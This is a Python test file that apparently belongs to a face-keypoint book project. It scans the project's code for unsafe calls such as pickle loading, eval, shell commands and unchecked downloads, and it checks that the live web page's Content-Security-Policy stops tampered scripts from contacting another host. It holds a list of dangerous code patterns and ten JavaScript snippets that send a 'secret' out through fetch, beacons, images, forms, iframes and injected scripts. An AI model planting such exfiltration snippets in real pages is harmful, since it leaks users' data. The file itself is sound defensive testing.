"""What the code never does, read from all of it; and that the live page's policy holds in a browser."""

import functools
import http.server
import shutil
import threading
import time
from pathlib import Path

import pytest
from chromium import chromium
from rules import code_of, findings, of_policy

ROOT = Path(__file__).parents[2]
FILES = sorted([*(ROOT / "facekp").rglob("*.py"), *(ROOT / "book" / "tools").rglob("*.py"),
                *(ROOT / "book").glob("*.ipynb")])
# What is fetched, each over https and compared with a checksum: ONNX Runtime Web, Pyodide and YuNet's weights (their
# SHA-256 are in the files).
# kagglehub fetches over https with the user's own account, and what it brings is read as text, row by row.
DOWNLOADS = {("book/tools/live_page.py", "a download: urlopen"), ("book/tools/python_here.py", "a download: urlopen"),
             ("facekp/photo/detector.py", "a download: urlopen"),
             ("facekp/data/download.py", "a download: competition_download")}


@pytest.mark.tried("the source", "a look at every call: unpickling, eval, shells, downloads, archives, addresses",
                   "none that could run what it reads, or fetch without a checksum")
@pytest.mark.parametrize("path", [p.relative_to(ROOT).as_posix() for p in FILES])
def test_no_file_does_what_none_may(path):
    found = findings(code_of(ROOT / path))
    assert [f"{path}, line {line}: {what}" for line, what in found if (path, what) not in DOWNLOADS] == []


@pytest.mark.tried("the source", "downloads", "https and a checksum, each by name")
@pytest.mark.parametrize(("path", "needed"), [
    ("book/tools/live_page.py", ["https://cdn.jsdelivr.net/npm/onnxruntime-web@", "checked(folder / name, pin)",
                                 "hashlib.sha256(data).hexdigest() != pin"]),
    ("facekp/photo/detector.py", ["(found := sha256(temporary)) != YUNET_SHA256"]),
    ("facekp/models/resnet.py", ["get_state_dict(progress=False, check_hash=True)"]),
])
def test_what_is_fetched_is_compared_with_a_checksum(path, needed):
    text = (ROOT / path).read_text()
    assert [n for n in needed if n not in text] == []


def test_torchvisions_addresses_are_https_and_carry_a_checksum():
    import re

    import torchvision

    for name in ("resnet18", "resnet34", "resnet50", "vgg16"):
        url = torchvision.models.get_model_weights(name).DEFAULT.url
        assert url.startswith("https://") and re.search(r"-[0-9a-f]{8,}\.pth$", url), url


BAD = [
    "import torch; torch.load(p)", "torch.load(p, weights_only=False)", "torch.load(p, weights_only=maybe)",
    "from torch import load", "import pickle", "from pickle import loads", "import marshal, json", "import shelve",
    "def f():\n    import dill", "import joblib", "eval('1 + 1')", "exec(text)", "compile(text, '', 'exec')",
    "builtins.exec(text)", "__import__(name)", "os.system('ls')", "from os import system", "os.popen('ls')",
    "subprocess.run('ls', shell=True)", "subprocess.run(c, shell=flag)", "np.load(p, allow_pickle=True)",
    "numpy.load(p, allow_pickle=maybe)", "pd.read_pickle(p)", "torch.jit.load(p)", "yaml.load(text)",
    "yaml.unsafe_load(text)", "urllib.request.urlopen('https://a.b')", "requests.get('https://a.b')",
    "archive.extractall(folder)", "archive.extractall(folder, filter='fully_trusted')", "shutil.unpack_archive(p)",
    "page = 'http://example.com/weights'", "torch.hub.load_state_dict_from_url('https://a.b')",
]
GOOD = [
    "torch.load(p, weights_only=True)", "np.load(p)", "np.load(p, allow_pickle=False)", "model.eval()",
    "re.compile('a')", "torch.compile(model)", "subprocess.run(['ls'], shell=False)", "yaml.load(t, Loader=SafeLoader)",
    "archive.extractall(folder, filter='data')", "json.load(f)", "page = 'https://example.com'",
    "ns = 'http://www.w3.org/2000/svg'", "from facekp.data import load", "thing.load(p)",
]


@pytest.mark.tried("the checker of the source", "code that does what none may", "it is found")
@pytest.mark.parametrize("code", BAD)
def test_the_checker_sees_what_is_bad(code):
    assert findings(code)


@pytest.mark.tried("the checker of the source", "code like it that is harmless", "nothing is found")
@pytest.mark.parametrize("code", GOOD)
def test_the_checker_leaves_the_rest_alone(code):
    assert findings(code) == []


def test_the_checker_reads_the_cells_of_notebooks(tmp_path):
    cells = ('[{"cell_type": "code", "source": ["%pip install x\\n", "import pickle"]}, '
             '{"cell_type": "markdown", "source": "eval("}]')
    (tmp_path / "a.ipynb").write_text('{"cells": ' + cells + "}")
    assert findings(code_of(tmp_path / "a.ipynb")) == [(2, "imports pickle")]


# ---- the live page -------------------------------------------------------------------------------

PAGE = (ROOT / "book" / "live" / "index.html").read_text()
LOOSER = {
    "no policy": lambda html: html.replace("Content-Security-Policy", "Something-Else"),
    "any connection": lambda html: html.replace("default-src 'none'", "default-src *"),
    "connections home": lambda html: html.replace("img-src", "connect-src 'self'; img-src"),
    "scripts in the page": lambda html: html.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
    "eval": lambda html: html.replace("'wasm-unsafe-eval'", "'unsafe-eval'"),
    "scripts from elsewhere": lambda html: html.replace("script-src 'self'", "script-src 'self' https://cdn.invalid"),
    "images from elsewhere": lambda html: html.replace("img-src 'self'", "img-src https:"),
    "forms": lambda html: html.replace("; form-action 'none'", ""),
    "another base": lambda html: html.replace("; base-uri 'none'", ""),
    "a script before it": lambda html: html.replace("<meta charset", "<script src='a.js'></script><meta charset"),
    "an inline script": lambda html: html.replace("</body>", "<script>1</script></body>"),
    "an inline handler": lambda html: html.replace("<body>", "<body onload='1'>"),
}


@pytest.mark.tried("the live page", "its security policy, read", "no connection, no script but its own files")
def test_the_policy_is_strict():
    assert of_policy(PAGE) == []


@pytest.mark.tried("the live page", "policies that allow more", "each is noticed")
@pytest.mark.parametrize("how", LOOSER)
def test_a_looser_policy_is_noticed(how):
    assert LOOSER[how](PAGE) != PAGE and of_policy(LOOSER[how](PAGE))


HEARD = "/heard"
TAMPERED = {  # appended to a script of the page, or to the page itself; {far}: another server
    "fetch": ("live.js", "fetch('{far}?secret', {{mode: 'no-cors'}});"),
    "beacon": ("live.js", "navigator.sendBeacon('{far}', 'secret');"),
    "image": ("live.js", "new Image().src = '{far}?secret';"),
    "request": ("live.js", "const r = new XMLHttpRequest(); r.open('GET', '{far}'); r.send();"),
    "frame": ("live.js", "const f = document.createElement('iframe'); f.src = '{far}'; document.body.append(f);"),
    "form": ("live.js", "const f = document.createElement('form'); f.action = '{far}'; document.body.append(f); "
                        "f.submit();"),
    "style": ("live.js", "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{far}'; "
                         "document.head.append(l);"),
    "script": ("index.html", "<script src='{far}'></script>"),
    "inline": ("index.html", "<script>new Image().src = '{far}';</script>"),
    "handler": ("index.html", "<img src='none.png' onerror=\"new Image().src = '{far}'\">"),
}


def server(folder: Path, asked: list[str]):
    """A web server for ``folder`` that notes what it is asked for."""
    class Noting(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *_):
            asked.append(self.path)

        def do_POST(self):
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

    out = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Noting, directory=folder))
    threading.Thread(target=out.serve_forever, daemon=True).start()
    return out


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


def wait(page, condition, seconds: float) -> None:
    """Let the page go on until the condition holds, or for so many seconds."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not condition():
        page.wait_for_timeout(50)


def heard(browser, folder: Path, way: str, policy: bool) -> bool:
    """Whether another server hears of a page that was tampered with, with its policy or without."""
    asked, home = [], []
    far, near = server(folder, asked), server(folder, home)
    try:
        shutil.copytree(ROOT / "book" / "live", folder, dirs_exist_ok=True)
        (folder / "index.html").write_text(PAGE if policy else LOOSER["no policy"](PAGE))
        file, code = TAMPERED[way]
        code = code.format(far=f"http://127.0.0.1:{far.server_address[1]}{HEARD}")
        text = (folder / file).read_text()
        (folder / file).write_text(text.replace("</main>", code + "</main>") if file == "index.html" else code + text)
        page = browser.new_page()
        page.goto(f"http://127.0.0.1:{near.server_address[1]}/index.html", wait_until="commit")
        wait(page, lambda: any("live.js" in path for path in home), 300)
        wait(page, lambda: asked, 1 if policy else 300)
        page.close()
        assert any("live.js" in path for path in home)
        return any(path.startswith(HEARD) for path in asked)
    finally:
        far.shutdown()
        near.shutdown()


@pytest.mark.tried("the live page", "its files tampered with, to send something away in ten ways",
                   "nothing arrives; without the policy it would")
@pytest.mark.parametrize("way", TAMPERED)
def test_a_tampered_page_reaches_no_other_host(browser, tmp_path, way):
    assert not heard(browser, tmp_path / "strict", way, policy=True)
    assert heard(browser, tmp_path / "loose", way, policy=False)
